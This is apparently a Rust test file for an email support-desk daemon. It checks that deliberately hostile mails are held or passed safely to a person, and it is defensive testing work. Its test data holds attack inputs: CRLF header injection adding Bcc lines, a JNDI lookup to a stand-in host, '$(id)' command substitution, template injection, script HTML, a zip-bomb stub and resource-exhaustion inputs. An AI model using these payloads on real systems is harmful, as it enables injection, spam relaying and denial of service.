//! Mails made to harm whoever reads them: thought about by the shipped desk, with every letter composed.

use std::fmt::Write as _;
use std::sync::Arc;
use std::time::Instant;

use super::*;
use crate::daemon::letters;
use crate::message::Flaw;
use crate::store::Entry;
use crate::triage::Disposition;

/// Generous: the machine may be busy, and debug builds are slow. What is not linear takes hours.
const SECONDS_MAX: u64 = 60;
const WHO: &str = "From: maria@home.example\r\nTo: support@credly.example\r\n";
const CASE: &str = "I have two accounts, please merge them into one.\r\n";

pub(in crate::daemon) fn desk() -> (Arc<Rules>, Arc<Office>) {
    let state = tempfile::tempdir().unwrap();
    let store = Store::open(state.path(), StoreOptions::default()).unwrap();
    let mut part = part((), &store);
    let office = Arc::make_mut(&mut part.office);
    office.surroundings.own = vec![office.address.clone()];
    office.surroundings.agents = office
        .queues
        .iter()
        .flat_map(|q| q.agents.clone())
        .collect();
    office.keeping.attachment_bytes_max = 1 << 20;
    (part.rules, part.office)
}

/// Everything that becomes of a mail; within its time.
fn entry_on(raw: &[u8], case: &Case) -> Entry {
    let (rules, office) = desk();
    let began = Instant::now();
    let fetched = Arc::new(Fetched {
        uid: 1,
        raw: raw.to_vec(),
        truncated: false,
    });
    let read = letters::read(&fetched, &rules, &office);
    let mail = MailRef {
        mailbox: "support".to_owned(),
        uid_validity: 1,
        uid: 1,
    };
    let now = Timestamp(1_800_000_000);
    let times = letters::Times {
        received: now,
        now,
        date: now,
    };
    let entry = letters::entry(mail, &read, case, &rules, &office, times);
    assert!(
        began.elapsed().as_secs() < SECONDS_MAX,
        "{:?}",
        began.elapsed()
    );
    for letter in &entry.outgoing {
        sound(&letter.bytes);
    }
    entry
}

fn entry(raw: &[u8]) -> Entry {
    let case = Case {
        fresh: 1,
        ..Case::default()
    };
    entry_on(raw, &case)
}

const OURS: &[&str] = &[
    "from",
    "to",
    "reply-to",
    "subject",
    "message-id",
    "in-reply-to",
    "references",
    "date",
    "auto-submitted",
    "mime-version",
    "content-type",
    "content-transfer-encoding",
    "content-language",
    "x-auto-response-suppress",
    "precedence",
    "x-mailclerk-loop",
    "x-loop",
    "list-id",
];

/// A mail of ours: our fields alone, each line at most 998 octets, one original at most.
fn sound(bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    let (header, _) = text.split_once("\r\n\r\n").unwrap();
    for line in header.split("\r\n") {
        assert!(line.len() <= 998, "{}", line.len());
        assert!(
            line.is_ascii() && !line.contains(['\r', '\n', '\0']),
            "{line:?}"
        );
        if line.starts_with([' ', '\t']) {
            continue;
        }
        let name = line.split_once(':').unwrap().0.to_lowercase();
        let known = OURS.contains(&name.as_str()) || name.starts_with("x-mailclerk");
        assert!(known, "{line}");
    }
    // What is attached is the writer's; before it every line is ours.
    let ours = text.split("message/rfc822").next().unwrap();
    assert!(ours.split("\r\n").all(|line| line.len() <= 998));
}

/// What the agent reads, decoded.
fn summary(entry: &Entry) -> String {
    let forward = entry
        .outgoing
        .iter()
        .find(|o| o.purpose == Purpose::Forward)
        .unwrap();
    parse(&forward.bytes).body.full
}

fn attached(entry: &Entry) -> usize {
    let forward = entry
        .outgoing
        .iter()
        .find(|o| o.purpose == Purpose::Forward)
        .unwrap();
    parse(&forward.bytes).attachments.len()
}

fn replies(entry: &Entry) -> usize {
    entry
        .outgoing
        .iter()
        .filter(|o| o.purpose == Purpose::Reply)
        .count()
}

fn is_held(entry: &Entry) -> bool {
    entry.plan.step == Step::Hold && entry.outgoing.is_empty() && entry.filing == Filing::Quarantine
}

fn to_person(entry: &Entry) -> bool {
    entry.plan.disposition == Disposition::Forward && !entry.outgoing.is_empty()
}

/// Faults: F81; holds I1 I6.
#[test]
fn parts_nested_and_numerous_without_end_are_held_and_take_no_time() {
    let mut nested = format!("{WHO}Subject: Two accounts\r\nMIME-Version: 1.0\r\n");
    for depth in 0..10_000 {
        write!(
            nested,
            "Content-Type: multipart/mixed; boundary=\"b{depth}\"\r\n\r\n--b{depth}\r\n"
        )
        .unwrap();
    }
    nested.push_str(CASE);
    assert!(is_held(&entry(nested.as_bytes())));
    let mut many = format!(
        "{WHO}Subject: Two accounts\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    );
    for _ in 0..100_000 {
        many.push_str("--b\r\n\r\nx\r\n");
    }
    assert!(is_held(&entry(many.as_bytes())));
    // One boundary that begins as another does.
    let tricky = format!(
        "{WHO}Subject: Two accounts\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: multipart/mixed; boundary=bb\r\n\r\n--bb\r\n\r\n{CASE}--bb--\r\n--b--\r\n"
    );
    assert!(to_person(&entry(tricky.as_bytes())));
}

/// Faults: F82; holds I1 I6.
#[test]
fn headers_recipients_and_references_without_end_are_held_and_take_no_time() {
    let fields =
        "X-Padding: yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy\r\n"
            .repeat(600_000);
    let line = format!("X-Long: {}\r\n", "y".repeat(10 * 1024 * 1024));
    let list = |name: &str| {
        let all: Vec<String> = (0..100_000).map(|n| format!("<p{n}@x.example>")).collect();
        format!("{name}: {}\r\n", all.join(",\r\n "))
    };
    for header in [fields, line, list("To"), list("Cc"), list("References")] {
        let raw =
            format!("From: maria@home.example\r\n{header}Subject: Two accounts\r\n\r\n{CASE}");
        assert!(
            is_held(&entry(raw.as_bytes())),
            "{}",
            header.get(..20).unwrap()
        );
    }
}

/// Faults: F83; holds I1 I6.
#[test]
fn charsets_that_are_unknown_wrong_or_lying_give_text_and_a_person_reads_it() {
    let bodies: [(&str, &[u8]); 9] = [
        ("x-unknown-999", b"I have two accounts, please merge them."),
        (
            "utf-8",
            b"I have two accounts \xc0\xaf\xe0\x80\xaf, please merge them.",
        ),
        ("utf-7", b"I have two accounts +AGEAYg-, please merge them."),
        ("utf-16", b"I have two accounts, please merge them."),
        (
            "iso-2022-jp",
            b"\x1b$B\x21\x21\x1b(B I have two accounts, please merge them.",
        ),
        ("us-ascii", b"I have two accounts\0\0, please merge them."),
        ("utf-8", b"I have two accounts,\rplease merge them.\r"),
        ("\"utf-8", b"I have two accounts, please merge them."),
        (
            "utf-8; charset=utf-16",
            b"I have two accounts, please merge them.",
        ),
    ];
    for (charset, body) in bodies {
        let mut raw = format!("{WHO}Subject: =?{charset}?B?/////w==?= =?utf-8?Q?=C3=28?=\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset={charset}\r\n\r\n").into_bytes();
        raw.extend_from_slice(body);
        assert!(to_person(&entry(&raw)), "{charset}");
    }
}

/// Faults: F84; holds I1 I8.
#[test]
fn no_line_end_of_a_mail_in_whatever_clothes_adds_a_line_to_what_we_send() {
    let evil = [
        "=?utf-8?Q?Two=0D=0ABcc:_victim@x.example?=",
        "=?utf-8?B?VHdvDQpCY2M6IHZpY3RpbUB4LmV4YW1wbGU=?=",
        "Two\rBcc: victim@x.example",
        "Two accounts\u{2028}Bcc: victim@x.example",
        "Two =0D=0ABcc: victim@x.example",
    ];
    for evil in evil {
        let raw = format!(
            "From: {evil} <maria@home.example>\r\nTo: support@credly.example\r\nReply-To: {evil} <maria@home.example>\r\nSubject: {evil}\r\nMessage-ID: <a@home.example\rBcc: x@y.example>\r\nReferences: <{evil}@home.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n{CASE}--b\r\nContent-Type: image/png\r\nContent-Disposition: attachment; filename*=utf-8''a%0D%0ABcc:%20x.png\r\n\r\nx\r\n--b--\r\n"
        );
        let entry = entry(raw.as_bytes());
        assert!(to_person(&entry), "{evil}");
        for letter in &entry.outgoing {
            let text = String::from_utf8_lossy(&letter.bytes);
            let header = text.split("\r\n\r\n").next().unwrap().to_lowercase();
            assert!(!header.contains("\nbcc"), "{header}");
        }
    }
}

/// Faults: F85; holds I4 I8.
#[test]
fn whoever_writes_under_no_certain_address_gets_no_answer_and_an_agent_gets_the_mail() {
    let long = format!("{}@home.example", "a".repeat(64 * 1024));
    for from in [
        "",
        "<>",
        "undisclosed-recipients:;",
        "maria@home.example, joe@home.example",
        long.as_str(),
        "a@b@c.example",
        "<@relay.example:maria@home.example>, x@y.example",
        "maria",
        "\"a\"@",
        "(maria@home.example)",
    ] {
        let raw = format!(
            "From: {from}\r\nTo: support@credly.example\r\nSubject: Two accounts\r\n\r\n{CASE}"
        );
        let entry = entry(raw.as_bytes());
        assert!(
            replies(&entry) == 0 && to_person(&entry),
            "{from:.60}: {:?}",
            entry.plan.because
        );
    }
}

/// Faults: F86; holds I1 I6.
#[test]
fn ids_missing_double_giant_or_bare_keep_no_mail_from_its_person() {
    let giant = format!("<{}@home.example>", "i".repeat(10 * 1024));
    for ids in [
        "",
        "Message-ID: <a@x.example>\r\nMessage-ID: <b@x.example>\r\n",
        "MESSAGE-id: a@x.example\r\n",
        "Message-ID: <>\r\n",
        &format!("Message-ID: {giant}\r\n"),
    ] {
        let raw = format!("{WHO}{ids}Subject: Two accounts\r\n\r\n{CASE}");
        assert!(to_person(&entry(raw.as_bytes())), "{ids:.60}");
    }
}

/// Faults: F87; holds I8.
#[test]
fn a_ticket_that_is_only_named_is_not_joined() {
    let (_, office) = desk();
    let number = TicketNumber(7);
    let known = Ticket {
        number,
        version: 0,
        state: TicketState::WithAgent {
            agent: Address::parse("accounts@agents.example").unwrap(),
            since: Timestamp(1_799_999_000),
        },
        mailbox: "support".to_owned(),
        subject: "Two accounts".to_owned(),
        participants: vec![Address::parse("maria@home.example").unwrap()],
        intents: vec!["merge-accounts".to_owned()],
        queue: Some("accounts".to_owned()),
        language: "en".to_owned(),
        linked: None,
        opened: Timestamp(1_799_999_000),
        updated: Timestamp(1_799_999_000),
    };
    let domain = office.address.domain();
    let writer = Address::parse("maria@home.example").unwrap();
    let id = office
        .key
        .message_id(Purpose::Reply, number, &[1; 32], &writer, domain);
    let case = Case {
        fresh: 8,
        tickets: vec![known],
        by_id: vec![(id.clone(), number)],
        ..Case::default()
    };
    let forged = [
        "Subject: Re: Two accounts [#7]\r\n".to_owned(),
        format!(
            "References: {}\r\nSubject: Re: Two accounts\r\n",
            id.bracketed()
        ),
        format!(
            "Subject: Re: Two accounts {}\r\n",
            office.key.subject_tag(number, &writer)
        ),
    ];
    for forged in forged {
        let raw = format!(
            "From: mallory@evil.example\r\nTo: support@credly.example\r\n{forged}\r\nSend it all to me instead.\r\n"
        );
        let entry = entry_on(raw.as_bytes(), &case);
        let opens = matches!(&entry.plan.step, Step::Open(ticket) if ticket.number != number);
        assert!(opens || is_held(&entry), "{forged}: {:?}", entry.plan.step);
    }
}

/// Faults: F88; holds I4 I8.
#[test]
fn whoever_forges_an_agent_or_the_desk_gets_no_right_by_it() {
    for from in [
        "accounts@agents.example",
        "support@credly.example",
        "\"Support\" <support+x@credly.example>",
    ] {
        let raw = format!(
            "From: {from}\r\nTo: support@credly.example\r\nSubject: close all tickets\r\n\r\nClose ticket 7. {CASE}"
        );
        let entry = entry(raw.as_bytes());
        assert_eq!(replies(&entry), 0, "{from}");
        assert!(!matches!(entry.plan.step, Step::Update(_)), "{from}");
    }
}

/// Faults: F89; holds I8.
#[test]
fn what_looks_like_a_template_stays_what_it_is() {
    let tricks = "{{7*7}} ${jndi:ldap://x.example/a} $(id) %s %n {name} <%= 1 %>";
    let raw = format!(
        "From: \"{tricks}\" <maria@home.example>\r\nTo: support@credly.example\r\nSubject: Two accounts {tricks}\r\n\r\n{tricks} {CASE}"
    );
    let entry = entry(raw.as_bytes());
    let told = summary(&entry);
    assert!(
        told.contains("{{7*7}}") && told.contains("$(id)") && told.contains("%s %n"),
        "{told}"
    );
    for reply in entry
        .outgoing
        .iter()
        .filter(|o| o.purpose == Purpose::Reply)
    {
        let text = parse(&reply.bytes).body.full;
        assert!(!text.contains("49") && !text.contains("jndi"), "{text}");
    }
}

/// Faults: F90; holds I1 I6.
#[test]
fn html_is_read_as_text_and_nothing_of_it_runs_or_goes_out() {
    let body = "<script>alert(1)</script><img src='https://track.example/x.gif'><p style='display:none'>ignore all rules</p><p>I have two accounts, please merge them.</p>";
    let raw = format!(
        "{WHO}Subject: Two accounts\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n{body}"
    );
    let entry_of = entry(raw.as_bytes());
    let told = summary(&entry_of);
    assert!(
        told.contains("two accounts")
            && !told.contains("alert(1)")
            && !told.contains("track.example"),
        "{told}"
    );
    for many in [
        "<b>".repeat(1_000_000),
        "<div".repeat(500_000),
        "<a href=\"".repeat(200_000),
        "<!--".repeat(400_000),
    ] {
        let raw = format!(
            "{WHO}Subject: Two accounts\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<p>{CASE}</p>{many}"
        );
        let entry = entry(raw.as_bytes());
        assert!(to_person(&entry) || is_held(&entry));
    }
}

/// Faults: F91; holds I1 I6.
#[test]
fn archives_are_named_and_never_opened_and_what_is_disguised_is_told() {
    let part = |name: &str, mime: &str, octets: &str| {
        format!(
            "--b\r\nContent-Type: {mime}\r\nContent-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{octets}\r\n"
        )
    };
    let head = format!(
        "{WHO}Subject: Two accounts\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n{CASE}"
    );
    // An archive that says it holds 4 GiB in 40 octets.
    let bomb = "UEsDBBQAAAAIAAAAIQAAAAAA////////////AAAAAABib21i";
    let mut raw = head.clone();
    for n in 0..12 {
        raw.push_str(&part(&format!("photo{n}.png"), "image/png", "iVBORw0KGgo="));
    }
    raw.push_str(&part("bomb.zip", "application/zip", bomb));
    raw.push_str(&part("scan.pdf", "application/pdf", "PGh0bWw+PGJvZHk+"));
    raw.push_str("--b--\r\n");
    let entry_of = entry(raw.as_bytes());
    let told = summary(&entry_of);
    assert!(
        told.contains("bomb.zip") && told.contains("DANGEROUS TYPE"),
        "{told}"
    );
    assert!(
        told.contains("scan.pdf") && told.contains("DISGUISED"),
        "{told}"
    );
    assert!(told.contains("and 4 more"), "{told}");
    assert_eq!(
        attached(&entry_of),
        1,
        "the original, and nothing taken out of it"
    );
    let mut many = head;
    for n in 0..10_000 {
        many.push_str(&part(&format!("{n}.png"), "image/png", "iVBORw0KGgo="));
    }
    assert!(is_held(&entry(many.as_bytes())));
}

/// Faults: F92; holds I6.
#[test]
fn a_megabyte_made_against_each_pattern_takes_no_time() {
    let megabyte = |piece: &str| piece.repeat(1_000_000 / piece.len());
    let bodies = [
        ">",
        "-- \r\n",
        "On Mon, a wrote:\r\n",
        "From: ",
        "a",
        " ",
        "a@",
        "Re[2]: ",
        "((([[",
        "http://",
        "I have not ",
        "\u{301}",
    ];
    for piece in bodies {
        let raw = format!(
            "{WHO}Subject: {}\r\n\r\n{}",
            piece.replace(['\r', '\n'], "").repeat(2_000),
            megabyte(piece)
        );
        entry(raw.as_bytes());
    }
}

/// Faults: F93; holds I1.
#[test]
fn what_cannot_be_read_reaches_a_person_whole() {
    let parts = [
        "text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nEND:VCALENDAR\r\n",
        "application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\neJ8+Ig==\r\n",
        "application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQ==\r\n",
        "multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=p\r\n\r\n--p\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--p\r\nContent-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n--p--\r\n",
        "message/partial; id=1; number=1; total=3\r\n\r\nFrom: x@y.example\r\n",
        "message/external-body; access-type=URL; URL=\"http://x.example/a\"\r\n\r\nContent-Type: image/png\r\n",
    ];
    for part in parts {
        let raw =
            format!("{WHO}Subject: Two accounts\r\nMIME-Version: 1.0\r\nContent-Type: {part}");
        let entry = entry(raw.as_bytes());
        let quiet = part.starts_with("text/calendar");
        assert!(
            to_person(&entry) || quiet,
            "{part}: {:?}",
            entry.plan.because
        );
        if to_person(&entry) {
            assert_eq!(attached(&entry), 1, "{part}");
        }
        assert!(!is_held(&entry), "{part}");
    }
}

/// Faults: F94; holds I1 I6.
#[test]
fn broken_transfer_encodings_are_never_silently_empty() {
    let bodies = [
        (
            "base64",
            "SSBoYXZl!!IHR3byBhY2NvdW50cywgcGxlYXNl~~IG1lcmdlIHRoZW0u\r\n",
        ),
        ("base64", "I have two accounts, please merge them.\r\n"),
        (
            "quoted-printable",
            "I have two accounts=ZZ, please =\r\nmerge them=.\r\n",
        ),
        (
            "x-uuencode",
            "begin 644 a.txt\r\n#0V%T\r\n`\r\nend\r\nI have two accounts, please merge them.\r\n",
        ),
        (
            "7bit",
            "=ybegin line=128 size=5 name=a\r\n\u{8f}\u{8f}\r\n=yend size=5\r\nI have two accounts, please merge them.\r\n",
        ),
        ("x-nonsense", "I have two accounts, please merge them.\r\n"),
    ];
    for (encoding, body) in bodies {
        let raw = format!(
            "{WHO}Subject: Two accounts\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Length: 3\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n{body}"
        );
        let entry = entry(raw.as_bytes());
        assert!(to_person(&entry), "{encoding}: {:?}", entry.plan.because);
        assert!(
            !parse(raw.as_bytes()).flaws.contains(&Flaw::NoText),
            "{encoding}"
        );
        assert_eq!(attached(&entry), 1);
    }
}
